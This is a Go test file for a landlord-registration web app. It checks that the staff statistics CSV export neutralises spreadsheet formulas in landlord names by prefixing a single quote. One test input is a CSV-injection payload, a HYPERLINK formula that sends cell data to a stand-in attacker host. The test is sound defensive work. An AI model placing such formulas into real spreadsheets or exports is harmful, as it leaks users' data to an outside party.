package server_test

import (
	"encoding/csv"
	"net/http"
	"net/url"
	"strings"
	"testing"
	"time"

	"wohnbruecke/internal/clock"
	"wohnbruecke/internal/store"
	"wohnbruecke/internal/testutil"
)

// A landlord who registers anonymously under a spreadsheet formula appears in the
// statistics CSV as text: every cell a spreadsheet would run starts with a single quote.
func TestStatisticsCSVNeutralisesFormulas(t *testing.T) {
	// The registrations come from one address: an hour apart, so the per-address throttle
	// (tested on its own) lets each of them through.
	testutil.ForEachDialectAt(t, time.Date(2026, time.December, 1, 8, 0, 0, 0, time.UTC), func(t *testing.T, st *store.Store, clk *clock.Manual) {
		users := testutil.SeedUsers(t, st)
		app := testutil.App(t, st)
		names := []string{`=HYPERLINK("http://evil.example/?d="&A1;"Klick")`, "+49 Vermietung", "-2+3 GbR", "@SUM(A1:A9)", "\tTab KG", "\rReturn eG"}
		for i, name := range names {
			clk.Advance(61 * time.Minute)
			anon := testutil.NewClient(t, app)
			r := anon.Submit("/registrieren", "/registrieren", url.Values{"name": {name}, "kind": {"private"},
				"user_name": {"Eva Formel"}, "user_email": {"formel" + string(rune('a'+i)) + "@example.test"},
				"password": {"lang genug 123 Hagen"}, "password_confirm": {"lang genug 123 Hagen"}, "privacy": {"1"}})
			if r.Status != http.StatusSeeOther {
				t.Fatalf("registration %q: status %d", name, r.Status)
			}
		}
		staff := testutil.NewClient(t, app)
		staff.Login(users.Staff.Email, testutil.Password)
		resp := staff.Get("/arbeitsbereich/statistik.csv?tabelle=vermieter")
		if resp.Status != http.StatusOK {
			t.Fatalf("csv: status %d", resp.Status)
		}
		rd := csv.NewReader(strings.NewReader(strings.TrimPrefix(resp.Body, "\ufeff")))
		rd.Comma = ';'
		rows, err := rd.ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		found := map[string]bool{}
		for _, row := range rows {
			for _, cell := range row {
				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
					t.Errorf("cell %q would run as a formula", cell)
				}
				found[cell] = true
			}
		}
		for _, name := range names {
			// Registration trims the name, so a leading tab or return never reaches the table.
			want := "'" + strings.TrimSpace(name)
			if name[0] == '\t' || name[0] == '\r' {
				want = want[1:]
			}
			if !found[want] {
				t.Errorf("the export lacks %q", want)
			}
		}
	})
}
